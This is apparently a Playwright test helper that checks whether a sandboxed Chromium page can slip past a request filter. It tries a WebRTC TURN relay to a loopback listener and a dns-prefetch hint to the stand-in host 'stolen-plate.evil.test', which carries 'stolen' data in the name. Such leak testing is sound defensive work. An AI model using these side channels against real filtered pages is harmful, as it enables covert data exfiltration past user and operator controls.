import { once } from 'node:events';
import { createServer, type AddressInfo } from 'node:net';
import { chromium, type BrowserContextOptions, type Page } from 'playwright';
import { chromiumSwitches, findTestChromium } from '../support/chromium.ts';

/** What a page that was taken over would tell to the outside, hidden in a name that is to be looked up. */
const stolenName = 'stolen-plate.evil.test';

export interface WaysOut {
  /** What came to the listener on loopback, which is no server that the page may know. */
  readonly reached: readonly string[];
  /** Whether Chromium began to look the name up. */
  readonly lookedUp: boolean;
}

export interface Rules {
  /** Settings of the page's engine, `name=value`. */
  readonly engine: readonly string[];
  readonly proxy?: NonNullable<BrowserContextOptions['proxy']>;
}

/**
 * Tries, in a Chromium of its own, what goes round the request filter: WebRTC over TCP by a relay, and a name to be looked up ahead.
 *
 * @param show loads the page that is taken over. @returns it
 */
export async function tryWaysOut(
  { engine, proxy }: Rules,
  show: (page: Page) => Promise<Page>,
): Promise<WaysOut> {
  const reached: string[] = [];
  const listener = createServer((socket) => {
    reached.push('a connection');
    socket.on('error', () => undefined);
  }).listen(0, '127.0.0.1');
  await once(listener, 'listening');
  const browser = await chromium.launch({
    executablePath: findTestChromium() ?? '',
    args: [
      ...chromiumSwitches,
      '--force-webrtc-ip-handling-policy=disable_non_proxied_udp',
      // Chromium says of each hint that it takes that it takes it.
      `--blink-settings=${['logDnsPrefetchAndPreconnect=true', ...engine].join(',')}`,
    ],
  });
  try {
    const page = await show(await browser.newPage(proxy === undefined ? {} : { proxy }));
    const said: string[] = [];
    page.on('console', (message) => said.push(message.text()));
    await page.evaluate(takenOver, { port: (listener.address() as AddressInfo).port, name: stolenName });
    return { reached, lookedUp: said.some((text) => text === `DNS prefetch triggered for ${stolenName}`) };
  } finally {
    await browser.close();
    listener.close();
  }
}

/** Runs in the page. */
async function takenOver({ port, name }: { port: number; name: string }): Promise<void> {
  const hint = document.createElement('link');
  document.head.append(Object.assign(hint, { rel: 'dns-prefetch', href: `https://${name}/` }));
  const relay = { urls: `turn:127.0.0.1:${port}?transport=tcp`, username: 'stolen', credential: 'plate' };
  const peer = new RTCPeerConnection({ iceServers: [relay] });
  peer.createDataChannel('out');
  const gathered = new Promise<void>((resolve) => {
    peer.addEventListener('icegatheringstatechange', () => {
      if (peer.iceGatheringState === 'complete') resolve();
    });
  });
  await peer.setLocalDescription(await peer.createOffer());
  // Chromium waits some ten seconds for a relay that says nothing: where it can be reached at all, it was long before.
  await Promise.race([gathered, new Promise<void>((resolve) => setTimeout(resolve, 2_000))]);
}
